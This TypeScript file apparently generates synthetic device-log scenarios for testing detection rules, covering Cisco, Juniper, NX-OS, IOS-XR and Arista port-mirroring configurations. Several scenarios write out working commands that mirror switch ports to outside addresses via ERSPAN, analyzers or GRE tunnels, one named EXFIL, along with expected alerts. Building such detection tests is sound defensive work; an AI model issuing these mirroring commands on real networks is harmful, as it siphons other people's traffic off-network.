/**
 * Network-device attack scenarios: the seed's Test 4 (Cisco IOS-XE SPAN and ERSPAN source session configuration,
 * in archive logging syslog and in TACACS+ command accounting), RSPAN, Juniper analyzer and port mirroring, NX-OS
 * ERSPAN in the local accounting log, IOS-XR monitor-session through TACACS+, and Arista mirroring to a GRE tunnel
 * destination. Command syntax follows the vendor guides cited in events.md §4.
 */
import { DeviceLog, type Device, type Operator } from './device-lines.js';
import { Plan } from './scenario-kit.js';
import type { Scenario } from './types.js';

/** Types IOS configuration commands: each is logged by archive logging and, optionally, accounted by TACACS+. */
export function iosConfigure(p: Plan, log: DeviceLog, dev: Device, op: Operator, commands: string[], label: string, tacacs: boolean): { syslog: string[]; tacacs: string[] } {
  const out = { syslog: [] as string[], tacacs: [] as string[] };
  if (tacacs) {
    const ref = p.ref(`${label}-tacacs`);
    log.tacacs(dev, p.step(2, 5), op, 'configure terminal', { ref });
  }
  for (const c of commands) {
    const ref = p.ref(label);
    out.syslog.push(ref);
    log.iosCommand(dev, p.step(3, 12), op, c, ref);
    if (tacacs) {
      const tref = p.ref(`${label}-tacacs`);
      out.tacacs.push(tref);
      log.tacacs(dev, p.t, op, c, { ref: tref });
    }
  }
  log.iosConfigured(dev, p.step(1, 3), op, p.ref(`${label}-end`));
  return out;
}

const ciscoSpan: Scenario = {
  name: 'cisco-span',
  title: 'Cisco IOS-XE SPAN and ERSPAN source sessions',
  description:
    "The seed's Test 4: on a core switch an administrator account configures a local SPAN session (a server port copied to a spare port) and an ERSPAN source session sending copies to an outside address. Archive logging (%PARSER-5-CFGLOG_LOGGEDCMD) reaches the syslog collector and TACACS+ accounts the same commands; the SPAN session comes up (%SPAN-6-SESSION_UP, message text unverified).",
  platforms: ['device'],
  benign: false,
  seedTest: 'Test 4',
  build(ctx) {
    const p = new Plan(ctx);
    const dev = p.device({ host: 'sw-core-1', os: 'ios', ip: '10.255.0.1' });
    const op: Operator = { user: 'netadmin', tty: 'vty1', from: '198.51.100.50' };
    const log = new DeviceLog(ctx.rng);
    const span = iosConfigure(p, log, dev, op, ['monitor session 1 source interface GigabitEthernet1/0/5 both', 'monitor session 1 destination interface GigabitEthernet1/0/48'], 'span', true);
    const up = p.ref('span-up');
    log.iosMessage(dev, p.step(1, 2), 'SPAN-6-SESSION_UP', 'Session 1 is up', up);
    p.step(30, 90);
    const erspan = iosConfigure(
      p,
      log,
      dev,
      op,
      ['monitor session 2 type erspan-source', 'source interface TenGigabitEthernet1/1/3 both', 'no shutdown', 'destination', 'erspan-id 310', 'ip address 203.0.113.66', 'origin ip address 10.255.0.1', 'end'],
      'erspan',
      true,
    );
    p.deviceLines(log, 'device');
    p.expect('spanSession', ['netadmin on sw-core-1', 'GigabitEthernet1/0/5', 'GigabitEthernet1/0/48'], span.syslog, 'the two lines of session 1 are one alert');
    p.expect('spanSession', ['netadmin on 10.255.0.1', 'GigabitEthernet1/0/5', 'GigabitEthernet1/0/48'], span.tacacs, 'TACACS+ accounting of the same session (the NAS address names the device)');
    p.expect('spanStateUp', ['sw-core-1'], [up]);
    p.expect('remoteDestination', ['netadmin on sw-core-1', '203.0.113.66', 'TenGigabitEthernet1/1/3', 'erspan-id 310'], [erspan.syslog[0], erspan.syslog[5]], 'the ERSPAN sub-mode lines are one alert; it supersedes the session rule');
    p.expect('remoteDestination', ['netadmin on 10.255.0.1', '203.0.113.66', 'TenGigabitEthernet1/1/3'], [erspan.tacacs[0], erspan.tacacs[5]], 'the same ERSPAN session in TACACS+ accounting');
    return p.done();
  },
};

const ciscoRspan: Scenario = {
  name: 'cisco-rspan',
  title: 'Cisco IOS RSPAN to a remote VLAN',
  description: 'An RSPAN VLAN is created (vlan 901, remote-span) and a session copies an access port into it, so the copies travel across trunks to another switch.',
  platforms: ['device'],
  benign: false,
  build(ctx) {
    const p = new Plan(ctx);
    const dev = p.device({ host: 'access-sw3', os: 'ios', ip: '10.20.0.13' });
    const op: Operator = { user: 'contractor2', tty: 'vty0', from: '203.0.113.18' };
    const log = new DeviceLog(ctx.rng);
    const r = iosConfigure(p, log, dev, op, ['vlan 901', 'remote-span', 'exit', 'monitor session 1 source interface GigabitEthernet1/0/3 rx', 'monitor session 1 destination remote vlan 901'], 'rspan', false);
    p.deviceLines(log, 'device');
    p.expect('rspan', ['access-sw3', '901'], [r.syslog[1]], 'the VLAN made an RSPAN VLAN');
    p.expect('rspan', ['contractor2 on access-sw3', 'GigabitEthernet1/0/3', '901'], [r.syslog[4]], 'a session sending copies to the remote VLAN');
    p.expect('spanSession', ['contractor2 on access-sw3', 'GigabitEthernet1/0/3'], [r.syslog[3], r.syslog[4]]);
    return p.done();
  },
};

const juniper: Scenario = {
  name: 'juniper-analyzer',
  title: 'Juniper analyzer to a remote address, and MX port mirroring',
  description:
    'On an EX switch an analyzer copies a port both ways to an outside IP address (output ip-address); on an MX router a port-mirroring instance is fed by a firewall filter term (then port-mirror-instance). Junos mgd logs in RFC 5424 with structured data.',
  platforms: ['device'],
  benign: false,
  build(ctx) {
    const p = new Plan(ctx);
    const ex = p.device({ host: 'ex4300-dc1', os: 'junos', ip: '10.40.0.1' });
    const mx = p.device({ host: 'mx480-edge1', os: 'junos', ip: '10.40.0.9' });
    const op: Operator = { user: 'jnpr-ops', tty: 'pts/0', from: '198.51.100.33' };
    const log = new DeviceLog(ctx.rng);
    const pid = ctx.rng.int(20000, 60000);
    log.junosCommand(ex, p.step(), pid, op, 'configure');
    const exRefs: string[] = [];
    const analyzer = [
      ['input ingress interface ge-0/0/12.0', undefined],
      ['input egress interface ge-0/0/12.0', undefined],
      ['output ip-address 203.0.113.90', '203.0.113.90'],
    ] as const;
    for (const [rest, value] of analyzer) {
      const ref = p.ref('junos-ex');
      exRefs.push(ref);
      log.junosCommand(ex, p.step(), pid, op, `set forwarding-options analyzer EXFIL ${rest}`, ref);
      const path = value === undefined ? `forwarding-options analyzer EXFIL ${rest}` : `forwarding-options analyzer EXFIL ${rest.slice(0, rest.lastIndexOf(' '))}`;
      if (value === undefined) log.junos(ex, p.t + 12, pid, 'UI_CFG_AUDIT_OTHER', { username: op.user, action: 'set', pathname: `[${path}]` }, `User '${op.user}' set: [${path}]`);
      else log.junos(ex, p.t + 12, pid, 'UI_CFG_AUDIT_SET', { username: op.user, action: 'set', pathname: `[${path}]`, data: 'unconfigured', value }, `User '${op.user}' set: [${path}] unconfigured -> "${value}"`);
    }
    log.junosCommand(ex, p.step(), pid, op, 'commit');
    log.junosCommit(ex, p.t + 40, pid, op, 'none');
    p.step(120, 300);
    const mxPid = ctx.rng.int(20000, 60000);
    const mxRefs: string[] = [];
    log.junosCommand(mx, p.step(), mxPid, op, 'configure private');
    for (const c of [
      'set forwarding-options port-mirroring instance PM-EDGE input rate 1',
      'set forwarding-options port-mirroring instance PM-EDGE family inet output interface ge-1/0/2.0 next-hop 10.9.9.2',
      'set firewall family inet filter MIRROR-ALL term all then port-mirror-instance PM-EDGE',
      'set interfaces ge-1/0/0 unit 0 family inet filter input MIRROR-ALL',
    ]) {
      const ref = p.ref('junos-mx');
      mxRefs.push(ref);
      log.junosCommand(mx, p.step(), mxPid, op, c, ref);
    }
    log.junosCommand(mx, p.step(), mxPid, op, 'commit');
    log.junosCommit(mx, p.t + 40, mxPid, op, 'none');
    p.deviceLines(log, 'device');
    p.expect('remoteDestination', ['jnpr-ops on ex4300-dc1', 'EXFIL', '203.0.113.90', 'ge-0/0/12.0'], exRefs, 'the analyzer lines are one object; the remote destination rule supersedes the Junos rule');
    p.expect('junosMirroring', ['jnpr-ops on mx480-edge1', 'PM-EDGE'], mxRefs.slice(0, 2), 'the port-mirroring instance');
    p.expect('junosMirroring', ['jnpr-ops on mx480-edge1', 'MIRROR-ALL'], [mxRefs[2]], 'the firewall filter term that feeds it');
    return p.done();
  },
};

const nxosErspan: Scenario = {
  name: 'nxos-erspan',
  title: 'Cisco NX-OS ERSPAN source session',
  description: 'On a Nexus leaf an ERSPAN source session sends a server port both ways to an outside address; the commands are in the switch\'s local accounting log (show accounting log), mode path joined with " ; ".',
  platforms: ['device'],
  benign: false,
  build(ctx) {
    const p = new Plan(ctx);
    const dev = p.device({ host: 'n9k-leaf-7', os: 'nxos', ip: '10.30.0.17' });
    const op: Operator = { user: 'dc-admin', tty: 'pts/1', from: '198.51.100.24' };
    const log = new DeviceLog(ctx.rng);
    const base = ['configure terminal'];
    const session = [...base, 'monitor session 3 type erspan-source'];
    log.nxosAccounting(dev, p.step(), op, base);
    log.nxosAccounting(dev, p.step(), op, [...base, 'monitor erspan origin ip-address 10.30.0.17 global']);
    const refs: string[] = [];
    for (const path of [session, [...session, 'erspan-id 77'], [...session, 'vrf default'], [...session, 'destination ip 203.0.113.45'], [...session, 'source interface Ethernet1/5 both'], [...session, 'no shut']]) {
      const ref = p.ref('nxos');
      refs.push(ref);
      log.nxosAccounting(dev, p.step(4, 15), op, path, 'SUCCESS', ref);
    }
    p.deviceLines(log, 'device');
    p.expect('remoteDestination', ['dc-admin on n9k-leaf-7', '203.0.113.45', 'Ethernet1/5'], [refs[0], refs[3]]);
    return p.done();
  },
};

const iosxr: Scenario = {
  name: 'iosxr-monitor-session',
  title: 'Cisco IOS-XR traffic mirroring session',
  description: 'On an ASR 9000 a monitor-session (hyphenated, IOS-XR syntax) is defined with a destination interface and attached to a 100G port receive-only; TACACS+ accounts each command and the commit is logged (%MGBL-CONFIG-6-DB_COMMIT).',
  platforms: ['device'],
  benign: false,
  build(ctx) {
    const p = new Plan(ctx);
    const dev = p.device({ host: 'pe1-ams', os: 'iosxr', ip: '10.0.0.9' });
    const op: Operator = { user: 'sp-noc', tty: 'vty0', from: '198.51.100.23' };
    const log = new DeviceLog(ctx.rng);
    const refs: string[] = [];
    for (const c of ['monitor-session CORE-TAP ethernet', 'destination interface GigabitEthernet0/0/0/9', 'exit', 'interface HundredGigE0/0/0/4', 'monitor-session CORE-TAP ethernet direction rx-only']) {
      const ref = p.ref('iosxr');
      refs.push(ref);
      log.tacacs(dev, p.step(4, 12), op, c, { startStop: false, ref });
    }
    log.tacacs(dev, p.step(), op, 'commit', { startStop: false });
    log.iosxrMessage(dev, p.t + 300, `config[${ctx.rng.int(60000, 69999)}]`, 'MGBL-CONFIG-6-DB_COMMIT', `Configuration committed by user '${op.user}'. Use 'show configuration commit changes ${ctx.rng.digits(10)}' to view the changes.`);
    p.deviceLines(log, 'device');
    p.expect('iosxrSession', ['sp-noc on 10.0.0.9', 'CORE-TAP', 'HundredGigE0/0/0/4'], [refs[0], refs[1], refs[4]]);
    return p.done();
  },
};

const arista: Scenario = {
  name: 'arista-gre-mirror',
  title: 'Arista EOS mirroring to a GRE tunnel destination',
  description: 'An Arista leaf mirrors a port both ways into a GRE tunnel to an outside address (monitor session … destination tunnel mode gre); commands are accounted to syslog (%ACCOUNTING-6-CMD).',
  platforms: ['device'],
  benign: false,
  build(ctx) {
    const p = new Plan(ctx);
    const dev = p.device({ host: 'eos-leaf-4', os: 'eos', ip: '10.50.0.4' });
    const op: Operator = { user: 'admin', tty: 'vty6', from: '203.0.113.24' };
    const log = new DeviceLog(ctx.rng);
    log.eosConfig(dev, p.step(), op, true);
    log.eosCommand(dev, p.t, op, 'configure');
    const source = p.ref('eos');
    log.eosCommand(dev, p.step(), op, 'monitor session S1 source Ethernet7 both', source);
    const dest = p.ref('eos');
    log.eosCommand(dev, p.step(), op, 'monitor session S1 destination tunnel mode gre source 10.50.0.4 destination 192.0.2.200', dest);
    log.eosCommand(dev, p.step(), op, 'end');
    log.eosConfig(dev, p.t + 150, op, false);
    p.deviceLines(log, 'device');
    p.expect('remoteDestination', ['admin on eos-leaf-4', '192.0.2.200', 'Ethernet7'], [source, dest]);
    return p.done();
  },
};

/** The device attack scenarios. */
export const DEVICE_SCENARIOS: readonly Scenario[] = [ciscoSpan, ciscoRspan, juniper, nxosErspan, iosxr, arista];

